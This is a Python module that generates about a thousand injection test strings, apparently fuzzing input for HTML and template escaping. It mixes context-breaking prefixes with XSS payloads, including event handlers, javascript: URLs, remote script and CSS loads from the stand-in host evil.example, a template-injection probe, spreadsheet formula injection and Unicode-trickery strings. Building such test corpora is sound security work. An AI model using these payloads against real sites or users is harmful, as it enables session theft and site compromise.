"""A thousand texts that try to be more than text."""

from itertools import product

BREAKS = ("", '">', "'>", "</td>", "</title>", "</style>", "</text></svg>", "]]>", "-->", "</pre></p>")
ELEMENTS = (
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})><animate onbegin=alert({n}) attributeName=x dur=1s></svg>",
    "<script>alert({n})</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<video src=x onerror=alert({n})></video>",
    "<object data='data:text/html,<script>alert({n})</script>'></object>",
    "<a href='javascript:alert({n})'>x</a>",
    "<form action=//evil.example/{n}><button formaction='javascript:alert({n})'>x</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/{n}'>",
    "<base href=//evil.example/{n}/>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css'; * {{ background: url(//evil.example/{n}) }}</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert({n})>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<template><script>alert({n})</script></template>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert({n})>#x'></use></svg>",
    "<body onload=alert({n})><marquee onstart=alert({n})>",
)
PLAIN = (
    "' onmouseover='alert({n})",
    '" autofocus onfocus="alert({n})',
    "` onclick=`alert({n})",
    " style=animation-name:x onanimationstart=alert({n})",
    "javascript:alert({n})//",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={n}",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert({n})'/>",
    "{{{{ {n} * 7 }}}}{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}",
    "{{n.__class__}} {{0}} {{}} %s %(x)s ${{alert({n})}} #{{7*7}} <%= {n} %>",
    "$\\frac{{a}}{{$ unbalanced $ mathematics _^ {n}",
    "x:expression(alert({n})); background:url(//evil.example/{n})",
    "}} * {{ display: none }} /* {n}",
    "\u202egnp.{n}\u202c \u2066reordered\u2069 \u200f",
    "\x00\x07\x1b[31m{n}\x1b[0m\ud800",
    "&lt;script&gt;alert({n})&lt;/script&gt; &#60;script&#62; &#x3c;img src=x onerror=alert({n})&#x3e;",
    "=HYPERLINK('http://evil.example/{n}')",
    "＜script＞alert({n})＜/script＞ 写真 📷 👩‍🚒 \u0301\u0301",
    "\u2028alert({n})\u2029//",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
    "a" * 5_000 + "{n}",
)


def texts(count=1_000) -> list[str]:
    """So many of them, all different, kinds mixed evenly."""
    forms = [first + element for first, element in product(BREAKS, ELEMENTS)]
    forms += [first + plain for first, plain in product(("", '"', "'", "<", "&", "x "), PLAIN)]
    forms += [form.upper() for form in forms if "{" not in form.replace("{n}", "")]
    step = 7  # without a common factor with the number of forms, so that all of them come
    while len(forms) % step == 0:
        step += 2
    return [
        forms[number * step % len(forms)].replace("{N}", "{n}").format(n=number) for number in range(count)
    ]
